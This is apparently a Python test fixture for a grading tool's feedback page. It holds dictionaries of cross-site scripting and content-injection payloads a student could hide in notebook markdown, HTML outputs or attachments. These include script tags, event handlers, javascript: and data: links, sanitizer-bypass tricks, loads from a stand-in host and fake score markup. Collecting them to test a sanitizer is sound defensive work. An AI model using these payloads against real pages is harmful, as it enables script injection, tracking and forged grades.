"""What a student could write to make the feedback page run, load or cover something."""

import base64

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
SVG = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').decode()
PAGE = base64.b64encode(b"<script>alert(1)</script>").decode()
ELSEWHERE = "https://elsewhere.example"

MARKDOWN = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script from elsewhere": f'<script src="{ELSEWHERE}/x.js"></script>',
    "script left open": "<script>alert(1)",
    "script in a title": "<title><script>alert(1)</script></title>",
    "script hidden by noscript": '<noscript><p title="</noscript><script>alert(1)</script>">',
    "onerror": "<img src=x onerror=alert(1)>",
    "onerror in a heading": "# <img src=x onerror=alert(1)>",
    "onerror in a table": "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "onfocus": '<a href="#" autofocus onfocus=alert(1)>x</a>',
    "svg onload": "<svg onload=alert(1)></svg>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg that changes a link": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>"
    ),
    "mathml": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "mathml with a link": '<math href="javascript:alert(1)">x</math>',
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript link in references": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "javascript link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript link by its name": "[x][y]\n\n[y]: javascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript in a picture": "![x](javascript:alert(1))",
    "vbscript link": "[x](vbscript:alert(1))",
    "link to a page in itself": f"[x](data:text/html;base64,{PAGE})",
    "iframe": f'<iframe src="{ELSEWHERE}"></iframe>',
    "iframe with its page": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": f'<object data="data:text/html;base64,{PAGE}"></object>',
    "embed": f'<embed src="{ELSEWHERE}/x.swf">',
    "style": f"<style>@import url({ELSEWHERE}/x.css); .score {{ display: none }}</style>",
    "style of an element": '<p style="position:fixed;background:url(//elsewhere.example)">x',
    "sheet from elsewhere": f'<link rel="stylesheet" href="{ELSEWHERE}/x.css">',
    "picture from elsewhere": f"![x]({ELSEWHERE}/x.png)",
    "picture from elsewhere without a protocol": "![x](//elsewhere.example/x.png)",
    "picture of several": f'<img srcset="{ELSEWHERE}/x.png 1x" alt="x">',
    "svg as a picture": f"![x](data:image/svg+xml;base64,{SVG})",
    "film from elsewhere": f'<video src="{ELSEWHERE}/x.mp4" poster="//elsewhere.example"></video>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
    "another policy": '<meta http-equiv="Content-Security-Policy" content="img-src *">',
    "base": f'<base href="{ELSEWHERE}/">',
    "form": f'<form action="{ELSEWHERE}"><button>Confirm your mark</button></form>',
    "button of a form elsewhere": f'<input type="image" src="{ELSEWHERE}/x.png" formaction="//x">',
    "class of the page": '<div class="output score">100 of 100 points</div>',
    "class of the card": '<div class="sk-grade"><p class="sk-head">All cases pass</p></div>',
    "id of the page": '<div id="top">x</div>',
    "attachment": "![x](attachment:x.svg)",
    "attachment that breaks out": "![x](attachment:y.png)",
}
# More than one guard stops these, or only a browser sees what they do.
FOR_BROWSERS = {
    "script after a broken comment": "<!--><script>alert(1)</script>-->",
    "onerror after a slash": "<img/src=x/onerror=alert(1)>",
    "formula": '$\\href{javascript:alert(1)}{x}$ $$<img src=x onerror="alert(1)">$$',
}
# Of the cell with the attack "attachment …".
ATTACHMENTS = {
    "x.svg": {"image/svg+xml": SVG},
    "y.png": {"image/png": '"><script>alert(1)</script>'},
}

DATA = {
    "html": {"text/html": "<script>alert(1)</script>"},
    "html with a handler": {"text/html": "<table onmouseover=alert(1)><tr><td>x</td></tr></table>"},
    "html with a style": {"text/html": f"<style id=x>@import url({ELSEWHERE}/x.css)</style>"},
    "html with half a style": {"text/html": "<style></style><style><img src=x onerror=alert(1)>"},
    "html out of a style": {
        "text/html": "<sty<style></style>le>p {}</style><scr<style></style>ipt>alert(1)</script>"
    },
    "html with a frame": {"text/html": f'<iframe src="{ELSEWHERE}"></iframe>'},
    "html with a link": {"text/html": '<a href="javascript:alert(1)">x</a>'},
    "html with a picture": {"text/html": f'<img src="{ELSEWHERE}/x.png">'},
    "markdown": {"text/markdown": "<script>alert(1)</script> [x](javascript:alert(1))"},
}
# These are harmless since they are never written: their guard is the choice of what is shown.
NEVER_SHOWN = {
    "javascript": {"application/javascript": "alert('kept')"},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "kept"}},
    "svg": {"image/svg+xml": "<svg onload=\"alert('kept')\"></svg>"},
    "pdf": {"application/pdf": "kept"},
    "picture that breaks out": {"image/png": "x\" onerror=\"alert('kept')"},
}
